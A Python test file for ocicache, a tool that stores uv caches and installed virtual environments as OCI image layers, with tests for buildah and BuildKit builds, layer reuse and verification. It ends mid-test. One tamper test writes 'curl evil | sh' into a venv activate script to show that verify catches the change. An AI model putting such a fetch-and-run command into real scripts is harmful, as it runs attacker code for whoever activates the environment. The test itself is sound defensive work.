"""Issue 8: `push --base IMAGE --venv PATH`, the project's environment installed in the stacked image.

The pinned uv makes it inside the base image (chroot, private mount namespace); proven with real
builders: buildah (--network none) and dockerd's BuildKit build FROM the image, and the build's
`uv sync --frozen --offline` installs nothing (without --venv it installs every package).
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import tarfile
from pathlib import Path

import pytest

from ocicache.errors import UsageError
from ocicache.venv import _apply_member, _resolve, check_can_install, check_venv_path
from tests.conftest import build_context, require_tool
from tests.conftest import ocicache as run_ocicache
from tests.support.builders import Buildah, DockerBuilder

IMPORTS = "import heavy, small_b, sdist_only, gitpkg"
VENV = "/app/.venv"


def _push_venv(build_setup, registries, repo: str, *flags: str) -> dict[str, object]:
    """build_setup's lock pushed to `repo`:1 with --base and --venv (and `flags`)."""
    host = registries["plain"].host
    ref = f"{host}/{repo}:1"
    pushed = run_ocicache("push", build_setup["lock"], ref, "--base", build_setup["base"], "--venv", VENV, *flags,
                          "--json").json()
    return {"ref": ref, "pushed": pushed, "host": host}


@pytest.fixture(scope="module")
def with_venv(build_setup, registries) -> dict[str, object]:
    return _push_venv(build_setup, registries, "venv/service")


def _dockerfile(ref: str) -> str:
    return (f"FROM {ref}\n"
            "WORKDIR /app\n"
            "COPY pyproject.toml uv.lock /app/\n"
            "RUN uv sync --frozen --offline --no-install-project --link-mode symlink 2>&1 | sed 's/^/uv: /'\n"
            f"RUN /app/.venv/bin/python -c \"{IMPORTS}; print('imports ok')\" && "
            "test -L /app/.venv/lib/python3.11/site-packages/heavy/data.bin\n")


def _raw_manifest(ref: str) -> dict:
    skopeo = require_tool("skopeo")
    out = subprocess.run([skopeo, "inspect", "--raw", "--tls-verify=false", f"docker://{ref}"], capture_output=True,
                         text=True, check=True).stdout
    return json.loads(out)


def test_the_venv_is_the_last_layer_and_a_repush_reuses_it(with_venv, build_setup):
    manifest = _raw_manifest(str(with_venv["ref"]))
    last = manifest["layers"][-1]
    assert last["annotations"]["dev.ocicache.layer.kind"] == "venv"
    assert manifest["annotations"]["dev.ocicache.stack.venv"] == VENV
    # the package layers are the plain stacked image's: --venv only adds one
    plain = run_ocicache("push", build_setup["lock"], f"{str(with_venv['ref']).rsplit('/', 2)[0]}/venv/plain:1",
                         "--base", build_setup["base"], "--json").json()
    ours = [layer["digest"] for layer in with_venv["pushed"]["layers"]]  # type: ignore[index]
    assert ours[:-1] == [layer["digest"] for layer in plain["layers"]]
    again = run_ocicache("push", build_setup["lock"], with_venv["ref"], "--base", build_setup["base"],
                         "--venv", VENV, "--json").json()
    assert again["manifest_digest"] == with_venv["pushed"]["manifest_digest"]  # type: ignore[index]
    assert again["layers_built"] == 0 and again["blobs_uploaded"] == 0
    info = run_ocicache("inspect", with_venv["ref"]).stdout
    assert "(the installed environment: push --venv)" in info


def test_buildah_build_installs_nothing(with_venv, build_setup, tmp_path):
    require_tool("buildah")
    context = build_context(tmp_path, build_setup["lock"], _dockerfile(str(with_venv["ref"])))
    result = Buildah(tmp_path / "buildah").build(context, "localhost/venv")
    out = result.stdout + result.stderr
    assert result.returncode == 0 and "imports ok" in out, out[-3000:]
    assert "uv: Installed" not in out and "uv: Removed" not in out, out[-3000:]
    # the same build from the image without --venv installs every package: what --venv saves
    plain = f"{str(with_venv['ref']).rsplit('/', 2)[0]}/venv/plain:1"
    run_ocicache("push", build_setup["lock"], plain, "--base", build_setup["base"])
    (context / "Dockerfile").write_text(_dockerfile(plain))
    result = Buildah(tmp_path / "buildah2").build(context, "localhost/plain")
    assert result.returncode == 0 and "uv: Installed 5 packages" in result.stdout, result.stdout[-3000:]


def test_docker_buildkit_build_installs_nothing(with_venv, build_setup, dockerd, tmp_path):
    context = build_context(tmp_path, build_setup["lock"], _dockerfile(str(with_venv["ref"])))
    result = DockerBuilder(dockerd, buildkit=True).build(context, "venv-bk")
    out = result.stdout + result.stderr
    assert result.returncode == 0 and "imports ok" in out, out[-3000:]
    assert "uv: Installed" not in out, out[-3000:]


def test_a_build_that_uses_another_path_still_installs(with_venv, build_setup, tmp_path):
    """The environment is where the build's uv looks, or unused: uv then installs as without it."""
    require_tool("buildah")
    body = _dockerfile(str(with_venv["ref"])).replace("WORKDIR /app\n",
                                                      "WORKDIR /app\nENV UV_PROJECT_ENVIRONMENT=/opt/env\n")
    body = body.replace("/app/.venv/", "/opt/env/")
    context = build_context(tmp_path, build_setup["lock"], body)
    result = Buildah(tmp_path / "buildah").build(context, "localhost/venv-other")
    assert result.returncode == 0 and "imports ok" in result.stdout, result.stdout[-3000:]
    assert "uv: Installed 5 packages" in result.stdout


def test_venv_errors_are_clear(build_setup, tmp_path):
    run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--venv", VENV, check=False)
    assert run.returncode == 2 and "--venv" in run.stderr and "needs --base" in run.stderr, run.stderr
    run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--base", build_setup["base"],
                       "--venv", "app/.venv", check=False)
    assert run.returncode == 2 and "absolute path" in run.stderr, run.stderr
    assert "Traceback" not in run.stderr and not (tmp_path / "out").exists()
    with pytest.raises(UsageError, match="absolute"):
        check_venv_path("/app/../etc")


def test_without_root_venv_says_so(monkeypatch):
    from ocicache.target import Target

    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    target = Target(arch="x86_64", python=(3, 11, 0), libc="manylinux", libc_level=(2, 36))
    with pytest.raises(UsageError, match="as root"):
        check_can_install(target)


def test_a_target_this_machine_cannot_run_is_refused_before_any_work(build_setup, tmp_path):
    run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--base", build_setup["base"],
                       "--venv", VENV, "--platform", "linux/arm64", check=False)
    assert run.returncode == 2 and "cannot run here" in run.stderr, run.stderr
    assert "Traceback" not in run.stderr and not (tmp_path / "out").exists()


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "",
            data: bytes = b"x") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    info.mode = 0o644
    return info, data


def _apply(rootfs: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for info, data in members:
            tf.addfile(info, io.BytesIO(data) if info.isreg() else None)
    buf.seek(0)
    with tarfile.open(fileobj=buf, mode="r") as tf:
        for info in tf:
            _apply_member(tf, info, rootfs)


def test_base_layers_are_applied_inside_the_scratch_root(tmp_path):
    """Links resolve as after chroot: an absolute link or `..` chain never leads a write out."""
    rootfs = tmp_path / "root"
    outside = tmp_path / "outside"
    rootfs.mkdir()
    outside.mkdir()
    _apply(rootfs, [_member("etc", tarfile.DIRTYPE), _member("abs", tarfile.SYMTYPE, str(outside)),
                    _member("up", tarfile.SYMTYPE, "../../../../.."),
                    _member("abs/written"), _member("up/escaped"),
                    _member("usr/lib/keep"), _member("usr/lib/gone"), _member("opt/a")])
    _apply(rootfs, [_member("usr/lib/.wh.gone"), _member("opt/.wh..wh..opq"), _member("opt/b")])  # the next layer
    assert not list(outside.iterdir())
    assert (rootfs / str(outside).lstrip("/") / "written").is_file()  # the link, taken inside the root
    assert (rootfs / "escaped").is_file()
    assert (rootfs / "usr/lib/keep").is_file() and not (rootfs / "usr/lib/gone").exists()
    assert sorted(p.name for p in (rootfs / "opt").iterdir()) == ["b"]
    assert _resolve(rootfs, "abs/x") == rootfs / str(outside).lstrip("/") / "x"


def test_check_pull_and_verify_read_an_image_with_a_venv(with_venv, build_setup, tmp_path):
    check = run_ocicache("check", with_venv["ref"], build_setup["lock"], "--json", check=False)
    assert check.returncode == 0 and check.json()["ok"], check.stdout + check.stderr
    verify = run_ocicache("verify", with_venv["ref"], build_setup["lock"], check=False)
    assert verify.returncode == 0, verify.stdout + verify.stderr
    pulled = run_ocicache("pull", with_venv["ref"], tmp_path / "cache", "--json").json()
    assert (tmp_path / "cache" / "archive-v0").is_dir() and not (tmp_path / "cache" / "app").exists(), pulled



def test_verify_rebuild_compares_the_environment_and_names_a_tampered_one(build_setup, registries):
    from tests.test_trust import tamper

    host = registries["plain"].host
    ref = f"{host}/venv/tamper:1"
    run_ocicache("push", build_setup["lock"], ref, "--base", build_setup["base"], "--venv", VENV)
    honest = run_ocicache("verify", ref, build_setup["lock"], "--rebuild", check=False)
    assert honest.returncode == 0, honest.stdout + honest.stderr
    tamper(host, "venv/tamper", "1", ".venv/bin/activate", b"curl evil | sh\n")
    run = run_ocicache("verify", ref, build_setup["lock"], "--rebuild", check=False)
    assert run.returncode == 1, run.stdout + run.stderr
    assert "the environment at /app/.venv: 1 entry differs" in run.stdout + run.stderr
    assert "bin/activate" in run.stdout + run.stderr and "Traceback" not in run.stderr


@pytest.mark.parametrize(("body", "expected"), [
    ("WORKDIR /app\nRUN uv sync --frozen\n", "/app/.venv"),
    ("WORKDIR /app\nWORKDIR src\nRUN UV_LINK_MODE=copy uv sync\n", "/app/src/.venv"),
    ("WORKDIR /app\nENV UV_PROJECT_ENVIRONMENT=/opt/venv\nRUN uv sync\n", "/opt/venv"),
    ("WORKDIR /app\nENV UV_PROJECT_ENVIRONMENT=env\nRUN uv sync --directory sub\n", "/app/sub/env"),
    ("ARG DIR=/srv\nWORKDIR $DIR\nRUN --mount=type=cache,target=/root/.cache/uv /usr/local/bin/uv sync\n",
     "/srv/.venv"),
    ("RUN uv sync\n", None),  # the base image's working directory: not read
    ("WORKDIR /app\nRUN cd /x && uv sync\n", None),
    ("WORKDIR /app\nRUN uv pip install --system -r requirements.txt\n", None),
])
def test_the_dockerfile_says_where_uv_sync_puts_the_environment(body, expected, tmp_path):
    from ocicache.dockerfile import find_uv_step, parse_dockerfile

    (tmp_path / "Dockerfile").write_text("FROM python:3.11-slim\n" + body)
    assert find_uv_step(parse_dockerfile(tmp_path / "Dockerfile"), None).environment == expected


def test_venv_auto_takes_the_path_from_the_dockerfile_and_check_notes_a_mismatch(build_setup, registries,
                                                                                 tmp_path):
    host = registries["plain"].host
    ref = f"{host}/venv/auto:1"
    body = "ARG UV_STACKED_IMAGE\n" + _dockerfile("${UV_STACKED_IMAGE}")
    body = body.replace("WORKDIR /app\n", "WORKDIR /srv/app\n").replace("/app/", "/srv/app/")
    body = body.replace("COPY pyproject.toml uv.lock /srv/app/\n", "COPY pyproject.toml uv.lock ./\n")
    context = build_context(tmp_path, build_setup["lock"], body)
    # FROM ${UV_STACKED_IMAGE} without a value: the push reads the build as it runs FROM --base (the
    # pushed image's Python and user are the base's); the build then runs FROM the pushed image
    run_ocicache("push", build_setup["lock"], ref, "--base", build_setup["base"], "--dockerfile",
                 context / "Dockerfile", "--venv", "auto")
    assert _raw_manifest(ref)["annotations"]["dev.ocicache.stack.venv"] == "/srv/app/.venv"
    matching = run_ocicache("check", ref, build_setup["lock"], "--dockerfile", context / "Dockerfile",
                            "--json").json()  # the build runs FROM the checked image: no --build-arg needed
    assert matching["ok"] and matching["notes"] == [], matching
    other = tmp_path / "other"
    other.mkdir()
    (other / "Dockerfile").write_text(body.replace("WORKDIR /srv/app\n", "WORKDIR /srv/app\n"
                                                   "ENV UV_PROJECT_ENVIRONMENT=/opt/env\n"))
    noted = run_ocicache("check", ref, build_setup["lock"], "--dockerfile", other / "Dockerfile",
                         "--build-arg", f"UV_STACKED_IMAGE={ref}", "--json").json()
    assert noted["ok"] and any("/srv/app/.venv" in n and "/opt/env" in n for n in noted["notes"]), noted
    require_tool("buildah")
    result = Buildah(tmp_path / "buildah").build(context, "localhost/venv-auto", {"UV_STACKED_IMAGE": ref})
    assert result.returncode == 0 and "imports ok" in result.stdout, result.stdout[-3000:]
    assert "uv: Installed" not in result.stdout, result.stdout[-3000:]


def test_venv_auto_without_a_readable_path_names_the_line(build_setup, tmp_path):
    (tmp_path / "Dockerfile").write_text(f"FROM {build_setup['base']}\nRUN uv sync --frozen --offline\n")
    run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--base", build_setup["base"],
                       "--dockerfile", tmp_path / "Dockerfile", "--venv", "auto", check=False)
    assert run.returncode == 2 and "Dockerfile:2" in run.stderr and "--venv PATH" in run.stderr, run.stderr
    assert "Traceback" not in run.stderr and not (tmp_path / "out").exists()


def test_a_build_with_its_own_cache_directory_gets_its_environment_linked_there(build_setup, registries, tmp_path):
    """--dockerfile puts the stacked cache where the build's uv reads it; the environment links there."""
    host = registries["plain"].host
    ref = f"{host}/venv/cachedir:1"
    body = "ARG UV_STACKED_IMAGE\n" + _dockerfile("${UV_STACKED_IMAGE}").replace(
        "WORKDIR /app\n", "WORKDIR /app\nENV UV_CACHE_DIR=/opt/uvcache\n")
    context = build_context(tmp_path, build_setup["lock"], body)
    run_ocicache("push", build_setup["lock"], ref, "--base", build_setup["base"], "--dockerfile",
                 context / "Dockerfile", "--build-arg", f"UV_STACKED_IMAGE={build_setup['base']}", "--venv", "auto")
    annotations = _raw_manifest(ref)["annotations"]
    assert annotations["dev.ocicache.stack.root"] == "opt/uvcache"
    assert annotations["dev.ocicache.stack.venv"] == VENV
    require_tool("buildah")
    body += ("RUN readlink /app/.venv/lib/python3.11/site-packages/heavy/data.bin | grep -q '^/opt/uvcache/' "
             "&& echo linked-there\n")
    (context / "Dockerfile").write_text(body)
    result = Buildah(tmp_path / "buildah").build(context, "localhost/venv-cachedir", {"UV_STACKED_IMAGE": ref})
    assert result.returncode == 0 and "imports ok" in result.stdout, result.stdout[-3000:]
    assert "linked-there" in result.stdout and "uv: Installed" not in result.stdout, result.stdout[-3000:]


def test_verify_rebuild_of_an_environment_without_root_says_so(with_venv, build_setup, monkeypatch):
    from ocicache.populate import Narrowing
    from ocicache.verify import verify_image

    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    with pytest.raises(UsageError, match="run the verify as root"):
        verify_image(str(with_venv["ref"]), build_setup["lock"], key=None, rebuild=True, platform=None,
                     narrowing=Narrowing())


# --- push --venv-only: the environment's own files, one layer per package, no cache --------------

PACKAGES = ["gitpkg", "heavy", "sdist-only", "small-a", "small-b"]  # what build_setup's lock installs


@pytest.fixture(scope="module")
def venv_only(build_setup, registries) -> dict[str, object]:
    return _push_venv(build_setup, registries, "venv/only", "--venv-only", "--pool",
                      f"{registries['plain'].host}/venv/pool")


def _blob(ref: str, digest: str) -> bytes:
    import httpx

    host, repo_tag = ref.split("/", 1)
    return httpx.get(f"http://{host}/v2/{repo_tag.rsplit(':', 1)[0]}/blobs/{digest}").content


def _layer_paths(ref: str, digest: str) -> list[str]:
    with tarfile.open(fileobj=io.BytesIO(_blob(ref, digest)), mode="r:gz") as tf:
        return tf.getnames()


def test_venv_only_is_a_layer_per_big_package_no_cache_and_a_repush_makes_nothing(venv_only, build_setup):
    manifest = _raw_manifest(str(venv_only["ref"]))
    assert manifest["annotations"]["dev.ocicache.stack.venv-only"] == "true"
    ours = [layer for layer in manifest["layers"] if "dev.ocicache.layer.key" in layer.get("annotations", {})]
    assert {layer["annotations"]["dev.ocicache.layer.kind"] for layer in ours} == {"venv"}
    named = [[p["name"] for p in json.loads(layer["annotations"].get("dev.ocicache.layer.packages", "[]"))]
             for layer in ours]
    # heavy (1.5 MiB, over --solo-threshold) alone, then uv's own files with the small packages'
    assert named == [["heavy"], sorted(set(PACKAGES) - {"heavy"})], named
    site = "app/.venv/lib/python3.11/site-packages/"
    heavy, uv_layer = (_layer_paths(str(venv_only["ref"]), layer["digest"]) for layer in ours)
    for paths in (heavy, uv_layer):
        assert paths and all(p in ("app", "app/.venv") or p.startswith("app/.venv/") for p in paths), paths[:5]
    assert f"{site}heavy/data.bin" in heavy and not [p for p in heavy if "small_a" in p or "pyvenv" in p], heavy
    assert f"{site}small_a/__init__.py" in uv_layer and "app/.venv/pyvenv.cfg" in uv_layer, uv_layer
    assert not [p for p in uv_layer if p.startswith(f"{site}heavy/")], uv_layer  # its directory only
    again = run_ocicache("push", build_setup["lock"], venv_only["ref"], "--base", build_setup["base"], "--venv",
                         VENV, "--venv-only", "--json").json()
    assert again["manifest_digest"] == venv_only["pushed"]["manifest_digest"]  # type: ignore[index]
    # no cache was made to find that out: nothing populated, built or uploaded
    assert again["packages_populated"] == 0 and again["layers_built"] == 0 and again["blobs_uploaded"] == 0, again
    info = run_ocicache("inspect", venv_only["ref"]).stdout
    assert "no uv cache (push --venv-only)" in info and "heavy 1.0" in info


def test_venv_only_keeps_the_cache_layers_in_the_pool(venv_only, build_setup):
    """The cache the environment was made from is not in the image, but the next push reuses it."""
    plain = run_ocicache("push", build_setup["lock"], f"{venv_only['host']}/venv/from-pool:1", "--base",
                         build_setup["base"], "--pool", f"{venv_only['host']}/venv/pool", "--json").json()
    assert plain["packages_populated"] == 0, plain


def test_buildah_and_docker_builds_from_a_venv_only_image_install_nothing(venv_only, build_setup, dockerd, tmp_path):
    require_tool("buildah")
    body = (f"FROM {venv_only['ref']}\nWORKDIR /app\nCOPY pyproject.toml uv.lock /app/\n"
            "RUN uv sync --frozen --offline --no-install-project 2>&1 | sed 's/^/uv: /'\n"
            f"RUN /app/.venv/bin/python -c \"{IMPORTS}; print('imports ok')\" && "
            "test -f /app/.venv/lib/python3.11/site-packages/heavy/data.bin && "
            "! test -L /app/.venv/lib/python3.11/site-packages/heavy/data.bin && ! test -e /root/.cache/uv/archive-v0 "
            "&& echo own-files\n"
            # real files: the environment copied into another stage works (a symlinked one dangles)
            f"FROM {build_setup['base']}\nCOPY --from=0 /app/.venv /app/.venv\n"
            f"RUN /app/.venv/bin/python -c \"{IMPORTS}; print('copied-ok')\"\n")
    context = build_context(tmp_path, build_setup["lock"], body)
    result = Buildah(tmp_path / "buildah").build(context, "localhost/venv-only")
    out = result.stdout + result.stderr
    assert result.returncode == 0 and "imports ok" in out and "own-files" in out and "copied-ok" in out, out[-3000:]
    assert "uv: Installed" not in out and "uv: Removed" not in out, out[-3000:]
    result = DockerBuilder(dockerd, buildkit=True).build(context, "venv-only-bk")
    out = result.stdout + result.stderr
    assert result.returncode == 0 and "own-files" in out and "copied-ok" in out, out[-3000:]
    assert "uv: Installed" not in out, out[-3000:]


def test_two_services_venv_only_images_share_the_package_layer(venv_only, build_setup, make_project, tmp_path):
    """Another project with `heavy` at the same path: the same layer digest (stored and pulled once)."""
    lock = make_project(tmp_path / "other", ["heavy"])
    other = f"{venv_only['host']}/venv/other:1"
    pushed = run_ocicache("push", lock, other, "--base", build_setup["base"], "--venv", VENV, "--venv-only",
                          "--json").json()

    def heavy_digest(layers: list[dict]) -> str:
        return next(layer["digest"] for layer in layers if layer["packages"] == ["heavy"])

    assert heavy_digest(pushed["layers"]) == heavy_digest(venv_only["pushed"]["layers"])  # type: ignore[index]
    assert pushed["manifest_digest"] != venv_only["pushed"]["manifest_digest"]  # type: ignore[index]


def test_venv_only_gives_big_packages_a_layer_the_small_ones_ride_with_uv_and_the_budget_holds(
        venv_only, build_setup, make_project, tmp_path):
    """Packages of at least --solo-threshold installed get a layer each, the small ones go in uv's
    own layer; --max-layers caps the number (one layer per package had no bound, and Docker refuses
    images of more than 125 layers); the image still installs every package, and an unchanged
    re-push finds every layer from uv's, which names the packages it holds."""
    lock = make_project(tmp_path / "sized", ["heavy", "numpy", "small-b", "small-c"])  # small-b needs small-a

    def layers_of(ref: str) -> list[list[str]]:
        ours = [layer for layer in _raw_manifest(ref)["layers"] if "dev.ocicache.layer.key" in layer.get("annotations",
                                                                                                        {})]
        return [sorted(p["name"] for p in json.loads(layer["annotations"].get("dev.ocicache.layer.packages", "[]")))
                for layer in ours]

    host = venv_only["host"]
    run_ocicache("push", lock, f"{host}/venv/sized:1", "--base", build_setup["base"], "--venv", VENV, "--venv-only")
    assert layers_of(f"{host}/venv/sized:1") == [["heavy"], ["numpy"], ["small-a", "small-b", "small-c"]]
    run_ocicache("push", lock, f"{host}/venv/sized:each", "--base", build_setup["base"], "--venv", VENV,
                 "--venv-only", "--solo-threshold", "0")
    assert sorted(layers_of(f"{host}/venv/sized:each")[:-1]) == [["heavy"], ["numpy"], ["small-a"], ["small-b"],
                                                                   ["small-c"]]
    capped = f"{host}/venv/sized:capped"
    run_ocicache("push", lock, capped, "--base", build_setup["base"], "--venv", VENV, "--venv-only",
                 "--solo-threshold", "0", "--max-layers", "2")
    assert layers_of(capped) == [["heavy"], ["numpy", "small-a", "small-b", "small-c"]]
    again = run_ocicache("push", lock, capped, "--base", build_setup["base"], "--venv", VENV, "--venv-only",
                         "--solo-threshold", "0", "--max-layers", "2", "--json").json()
    assert again["packages_populated"] == 0 and again["layers_built"] == 0 and again["blobs_uploaded"] == 0, again
    body = (f"FROM {capped}\nWORKDIR /app\nCOPY pyproject.toml uv.lock /app/\n"
            "RUN uv sync --frozen --offline --no-install-project 2>&1 | sed 's/^/uv: /'\n"
            "RUN /app/.venv/bin/python -c \"import heavy, numpy, small_a, small_b, small_c; print('imports ok')\"\n")
    result = Buildah(tmp_path / "buildah").build(build_context(tmp_path, lock, body), "localhost/venv-capped")
    out = result.stdout + result.stderr
    assert result.returncode == 0 and "imports ok" in out and "uv: Installed" not in out, out[-3000:]
    check = run_ocicache("check", capped, lock, "--json", check=False)
    assert check.returncode == 0 and check.json()["found"] == 5, check.stdout + check.stderr


def test_check_pull_and_verify_read_a_venv_only_image(venv_only, build_setup, make_project, tmp_path):
    check = run_ocicache("check", venv_only["ref"], build_setup["lock"], "--json", check=False)
    assert check.returncode == 0 and check.json()["ok"] and check.json()["found"] == 5, check.stdout + check.stderr
    bigger = make_project(tmp_path / "bigger", ["heavy", "small-b", "small-c"])  # small-c is not installed
    check = run_ocicache("check", venv_only["ref"], bigger, "--json", check=False)
    assert check.returncode == 1 and any("not installed" in m for m in check.json()["missing"]), check.stdout
    pulled = run_ocicache("pull", venv_only["ref"], tmp_path / "cache", check=False)
    assert pulled.returncode != 0 and "no uv cache" in pulled.stderr and "Traceback" not in pulled.stderr
    assert not (tmp_path / "cache").exists()
    verify = run_ocicache("verify", venv_only["ref"], build_setup["lock"], "--rebuild", check=False)
    assert verify.returncode == 0, verify.stdout + verify.stderr
    run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--venv-only", check=False)
    assert run.returncode == 2 and "--venv-only" in run.stderr and "Traceback" not in run.stderr, run.stderr


def test_check_does_not_warn_of_dangling_links_when_the_image_holds_the_environment(venv_only, build_setup,
                                                                                   tmp_path):
    """A build FROM a --venv-only image links nothing (the environment is installed, as real files),
    so copying the venv into another stage is safe even with --link-mode symlink (the build's own
    run proves it above: copied-ok); the same Dockerfile on a cache image is warned of (test_stack)."""
    body = (f"FROM {venv_only['ref']} AS build\nWORKDIR /app\nCOPY pyproject.toml uv.lock /app/\n"
            "RUN uv sync --frozen --offline --no-install-project --link-mode symlink\n"
            f"FROM {build_setup['base']}\nCOPY --from=build /app/.venv /app/.venv\n")
    context = build_context(tmp_path, build_setup["lock"], body)
    run = run_ocicache("check", venv_only["ref"], build_setup["lock"], "--dockerfile", context / "Dockerfile",
                       "--json", check=False)
    assert run.returncode == 0 and run.json()["problems"] == [], run.stdout + run.stderr


def test_a_bump_keeps_the_bigger_packages_layers_at_the_bottom_of_a_venv_only_image(venv_only, build_setup,
                                                                                    make_project, tmp_path):
    """A builder reuses a layer only under an unchanged chain below it: a small package's bump must
    leave the bigger packages' layers (and so the warm runner's copy of them) in place."""
    layers = {}
    for version in ("1.0", "2.0"):
        lock = make_project(tmp_path / version, ["heavy", "small-a", f"gc-beta=={version}"])
        ref = f"{venv_only['host']}/venv/bump:{version}"
        run_ocicache("push", lock, ref, "--base", build_setup["base"], "--venv", VENV, "--venv-only")
        layers[version] = [(layer["digest"], json.loads(layer.get("annotations", {}).get("dev.ocicache.layer.packages",
                                                                                      "[]")))
                           for layer in _raw_manifest(ref)["layers"]]
    before, after = layers["1.0"], layers["2.0"]
    shared = next(i for i, (a, b) in enumerate(zip(before, after, strict=True)) if a[0] != b[0])
    kept = {p[0]["name"] for _, p in before[:shared] if p}
    assert "heavy" in kept and "gc-beta" not in kept, (before, after)
    # uv's own layer comes last, and changes (it holds the small packages, the bumped one included)
    assert [p["name"] for p in before[-1][1]] == ["gc-beta", "small-a"] and before[-1][0] != after[-1][0]
    assert [p["version"] for p in after[-1][1]] == ["2.0", "1.0"]


# --- push --venv-archives: the environment as one tar per layer, extracted by the build ----------

ARCHIVES = "/tmp/ocicache-venv"


@pytest.fixture(scope="module")
def venv_archives(build_setup, registries) -> dict[str, object]:
    return _push_venv(build_setup, registries, "venv/archives", "--venv-archives")


def test_venv_archives_hold_each_venv_only_layer_as_one_tar_and_no_base_layers(venv_archives, venv_only,
                                                                               build_setup):
    import gzip
    import hashlib

    manifest = _raw_manifest(str(venv_archives["ref"]))
    assert manifest["annotations"]["dev.ocicache.stack.venv-archives"] == "/ocicache/venv"
    assert manifest["annotations"]["dev.ocicache.stack.venv-only"] == "true"
    layers = manifest["layers"]
    assert all("dev.ocicache.layer.key" in layer.get("annotations", {}) for layer in layers)  # no base layers
    named = [[p["name"] for p in json.loads(layer["annotations"]["dev.ocicache.layer.packages"])] for layer in layers]
    assert named == [["heavy"], sorted(set(PACKAGES) - {"heavy"})], named
    only = [layer for layer in _raw_manifest(str(venv_only["ref"]))["layers"]
            if "dev.ocicache.layer.key" in layer.get("annotations", {})]
    for layer, file, theirs in zip(layers, ("heavy.tar", "_environment.tar"), only, strict=True):
        with tarfile.open(fileobj=io.BytesIO(_blob(str(venv_archives["ref"]), layer["digest"])), mode="r:gz") as tf:
            assert tf.getnames() == ["ocicache", "ocicache/venv", f"ocicache/venv/{file}"]
            inner = tf.extractfile(f"ocicache/venv/{file}").read()  # type: ignore[union-attr]
        # the very tar the --venv-only layer is, compressed there and wrapped here
        venv_only_tar = gzip.decompress(_blob(str(venv_only["ref"]), theirs["digest"]))
        assert hashlib.sha256(inner).digest() == hashlib.sha256(venv_only_tar).digest(), file
    again = run_ocicache("push", build_setup["lock"], venv_archives["ref"], "--base", build_setup["base"], "--venv",
                         VENV, "--venv-archives", "--json").json()
    assert again["manifest_digest"] == venv_archives["pushed"]["manifest_digest"]  # type: ignore[index]
    assert again["packages_populated"] == 0 and again["layers_built"] == 0 and again["blobs_uploaded"] == 0, again
    info = run_ocicache("inspect", venv_archives["ref"]).stdout
    assert "push --venv-archives" in info and "/ocicache/venv" in info, info


def test_builds_that_extract_the_archives_install_nothing(venv_archives, build_setup, dockerd, tmp_path):
    """buildah and dockerd's BuildKit (overlay2), --network none: the image bind-mounted, its tars
    extracted with the base image's tar, and uv finds the environment complete."""
    require_tool("buildah")
    body = (f"FROM {venv_archives['ref']} AS venv\n"  # through a stage, as docs/dockerfile-patterns.md writes it
            f"FROM {build_setup['base']}\nWORKDIR /app\nCOPY pyproject.toml uv.lock /app/\n"
            f"RUN --mount=type=bind,from=venv,source=/ocicache/venv,target={ARCHIVES} "
            f"for a in {ARCHIVES}/*.tar; do tar -xf \"$a\" -C /; done && "
            "uv sync --frozen --offline --no-install-project 2>&1 | sed 's/^/uv: /'\n"
            f"RUN /app/.venv/bin/python -c \"{IMPORTS}; print('imports ok')\" && "
            "test -f /app/.venv/lib/python3.11/site-packages/heavy/data.bin && "
            "! test -L /app/.venv/lib/python3.11/site-packages/heavy/data.bin && ! test -e /ocicache && "
            f"! test -e {ARCHIVES}/heavy.tar && echo own-files\n")
    context = build_context(tmp_path, build_setup["lock"], body)
    for build in (lambda: Buildah(tmp_path / "buildah").build(context, "localhost/venv-archives"),
                  lambda: DockerBuilder(dockerd, buildkit=True).build(context, "venv-archives-bk")):
        result = build()
        out = result.stdout + result.stderr
        assert result.returncode == 0 and "imports ok" in out and "own-files" in out, out[-3000:]
        assert "uv: Installed" not in out and "uv: Removed" not in out, out[-3000:]


def test_check_pull_and_verify_of_venv_archives(venv_archives, build_setup, make_project, tmp_path):
    check = run_ocicache("check", venv_archives["ref"], build_setup["lock"], "--json", check=False)
    assert check.returncode == 0 and check.json()["found"] == 5, check.stdout + check.stderr
    bigger = make_project(tmp_path / "bigger", ["heavy", "small-b", "small-c"])
    check = run_ocicache("check", venv_archives["ref"], bigger, "--json", check=False)
    assert check.returncode == 1 and any("not installed" in m for m in check.json()["missing"]), check.stdout
    pulled = run_ocicache("pull", venv_archives["ref"], tmp_path / "cache", check=False)
    assert pulled.returncode != 0 and "extract /ocicache/venv/*.tar" in pulled.stderr, pulled.stderr
    assert "Traceback" not in pulled.stderr and not (tmp_path / "cache").exists()
    verify = run_ocicache("verify", venv_archives["ref"], build_setup["lock"], "--rebuild", check=False)
    assert verify.returncode == 0, verify.stdout + verify.stderr
    run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--venv-archives", check=False)
    assert run.returncode == 2 and "--venv-archives" in run.stderr and "Traceback" not in run.stderr, run.stderr


def test_check_reads_an_archives_build_from_its_dockerfile(venv_archives, build_setup, tmp_path):
    """The documented Dockerfile (the archives bind-mounted anywhere, extracted by tar) has nothing
    to warn of; one that never mounts the image is told its archives are not extracted."""
    body = ("ARG UV_VENV_ARCHIVES\nFROM ${UV_VENV_ARCHIVES} AS venv\n"
            f"FROM {build_setup['base']}\nWORKDIR /app\nCOPY pyproject.toml uv.lock /app/\n"
            f"RUN --mount=type=bind,from=venv,source=/ocicache/venv,target={ARCHIVES} "
            f"for a in {ARCHIVES}/*.tar; do tar -xf \"$a\" -C /; done && "
            "uv sync --frozen --offline --no-install-project\n")
    good = build_context(tmp_path / "good", build_setup["lock"], body) / "Dockerfile"
    args = ("--build-arg", f"UV_VENV_ARCHIVES={venv_archives['ref']}", "--json")
    checked = run_ocicache("check", venv_archives["ref"], build_setup["lock"], "--dockerfile", good, *args,
                           check=False)
